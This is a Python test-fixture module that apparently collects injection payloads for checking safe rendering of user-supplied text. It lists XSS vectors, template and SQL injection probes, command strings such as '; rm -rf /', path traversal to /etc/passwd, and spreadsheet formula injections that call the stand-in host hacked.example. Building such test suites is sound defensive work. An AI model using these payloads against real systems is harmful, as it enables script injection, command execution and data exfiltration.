"""Texts that somebody could put into a policy, a name or a question so that they do more than be read. Each would set window.hacked."""

from __future__ import annotations

JS = "window.hacked=1"
URL = "//hacked.example/x"
EVENTS = ["load", "error", "click", "mouseover", "focus", "blur", "input", "change", "submit", "toggle", "animationstart", "transitionend", "pointerenter", "pointerdown", "wheel", "keydown", "copy", "paste", "drag", "drop", "beforetoggle", "scroll", "contextmenu", "cut"]
TAGS = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed", "marquee", "a", "p", "style", "math", "form", "select", "textarea", "button", "dialog", "div", "table"]
SCRIPTS = [
    f"<script>{JS}</script>", f"<SCRIPT>{JS}</SCRIPT>", f"<script\n>{JS}</script\n>", f"<script/x>{JS}</script>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'<script src="{URL}.js"></script>', f"<script src=data:text/javascript,{JS}></script>", f'<script type="module">{JS}</script>', f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>", f"</textarea><script>{JS}</script>", f"</blockquote></article><script>{JS}</script>", f"</style><script>{JS}</script>",
    f"--><script>{JS}</script>", f"]]><script>{JS}</script>", f"'\"><script>{JS}</script>", f"`><script>{JS}</script>", f"<!--<script>{JS}//-->", f"<noscript><p title=\"</noscript><script>{JS}</script>\">",
    f"<template><script>{JS}</script></template>", f"<svg><script>{JS}</script></svg>", f"<svg><script href=data:,{JS} /></svg>", f"<math><mtext><script>{JS}</script></mtext></math>",
]  # fmt: skip
HANDLERS = [f"<img src=x on{event}={JS}>" for event in EVENTS] + [f"<{tag} autofocus tabindex=0 onfocus={JS} onload={JS} onerror={JS} src=x>" for tag in TAGS]
BROKEN_OUT = [f"{end}{name}={JS} x={end}" for end in "'\"`" for name in (" onmouseover", " onfocus autofocus onfocus", " style=animation-name:x onanimationstart")]
BROKEN_OUT += [f"{end} autofocus onfocus={JS} //" for end in ("'>", '">', "\\'", '\\"', "/>", "'/>")]
URLS = [
    f"javascript:{JS}", f"JaVaScRiPt:{JS}", f"java\tscript:{JS}", f" javascript:{JS}", f"javascript://%0a{JS}", f"data:text/html,<script>{JS}</script>", "data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{JS}", f"<a href=javascript:{JS}>x</a>", f"<a href='jav&#x09;ascript:{JS}'>x</a>", f"<a href='&#106;avascript:{JS}'>x</a>", f"<form action=javascript:{JS}><button>x</button></form>",
    f"<button formaction=javascript:{JS}>x</button>", f"<iframe src=javascript:{JS}></iframe>", f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>", f"<object data=javascript:{JS}></object>",
    f"<embed src=javascript:{JS}>", f"<base href={URL}>", f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>", f"<link rel=stylesheet href={URL}.css>", f"<link rel=import href={URL}>",
    f"<img src={URL}>", f"<img srcset='{URL} 2x'>", f"<video poster={URL}></video>", f"<a ping={URL} href=#>x</a>", f"https:{URL}", "//hacked.example", "\\\\hacked.example\\share", "file:///etc/passwd", f"<portal src={URL}>",
]  # fmt: skip
CSS = [
    f"<style>@import url({URL});</style>", f"<style>*{{background:url({URL})}}</style>", f"<p style='background:url({URL})'>x</p>", f"<div style=width:expression({JS})>x</div>",
    "<style>body{display:none}</style>", "}*{display:none}", "<p style=position:fixed;inset:0;z-index:99>x</p>", f"url(javascript:{JS})", f"-moz-binding:url({URL})", "</style><style>:root{--cw-ink:transparent}",
]  # fmt: skip
SVG = [
    f"<svg onload={JS}>", f"<svg><animate onbegin={JS} attributeName=x dur=1s>", f"<svg><set onbegin={JS} attributeName=x>", f"<svg><a xlink:href=javascript:{JS}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={JS}>#x'></svg>", f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>", f"<svg><image href={URL}></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>", f"<svg><style><img src=x onerror={JS}></style></svg>", f"<math><mi><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mi></math>",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{JS})", f"![x]({URL})", f"![x](x'onerror={JS}')", f"<javascript:{JS}>", f"[x]: javascript:{JS}", "**bold** _it_ ~~no~~", "`code` ```js", "| a | b |", "x\\", "~x~ ^x^ ==x==", "&lt;b&gt; \\<b\\>",
    "$\\href{javascript:hacked}{x}$", "\\( x \\)", ":smile: :hacked:", "- [ ] task", "[^1]: note", f"[x](data:text/html,{JS})", f"[![x]({URL})]({URL})",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{%raw%}x{%endraw%}", "{{config}}", "{{''.__class__.__mro__}}", "${window.hacked=1}", "{{constructor.constructor('window.hacked=1')()}}", "{{{7*7}}}", "[[7*7]]", "*{7*7}", "@(7*7)",
    "{% for x in y %}", "{#", "%}", "%s %d %n", "{0} {__import__}", "$(id)", "`id`", "; rm -rf /", "' OR 1=1 --", "'; DROP TABLE turn; --", "../../etc/passwd", "%2e%2e%2f", "%00", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;window.hacked=1&lt;/script&gt;", "&#60;img src=x onerror=window.hacked=1&#62;", "&#x3c;b&#x3e;", "&lt;b&gt", "&amp;lt;", "&nbsp;&shy;", "&NotAnEntity;", "&#0;", "&#x110000;", "&quot; onclick=&quot;hacked",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E", "+ADw-script+AD4-", "＜script＞window.hacked=1＜/script＞", "‹script›", "<ſcript>window.hacked=1</ſcript>", "<\u0130mg src=x onerror=window.hacked=1>",
]  # fmt: skip
UNSEEN = [
    "\u202eevil\u202c", "\u2066x\u2069", "\u2067x", "a\u200bb", "a\u200cb\u200d", "\ufeffx", "x\u00ad y", "\u061c x", "\u200e\u200f", "e\u0301" + "\u0301" * 30, "\U000e0041\U000e0042", "\U0001f468\u200d\U0001f469", "x\x01y", "x\x07y", "x\x08y", "x\x1by",
    "x\x7fy", "x\x85y", "x\u2028window.hacked=1//y", "x\u2029y", "\ufffd", "\ufffe", "x\x00y", "\u3164", "_x000D_", "_x0041_",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://hacked.example","x")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "=IMPORTXML(CONCAT(\"http://hacked.example\"),\"//a\")", "＝1+1", "\t=1+1", "  =1+1", "=1+1\";\"", "'=1+1", "=WEBSERVICE(\"http://hacked.example\")",
]  # fmt: skip
LONG = ["x" * 1500, "<b>" * 400, "&" * 900, "x<wbr>" * 200, f"{'<i>' * 200}{JS}", "{{" * 300, "W" * 400 + f"<script>{JS}</script>"]
PAYLOADS: list[str] = [*SCRIPTS, *HANDLERS, *BROKEN_OUT, *URLS, *CSS, *SVG, *MARKDOWN, *TEMPLATES, *ENTITIES, *UNSEEN, *FORMULAS, *LONG]
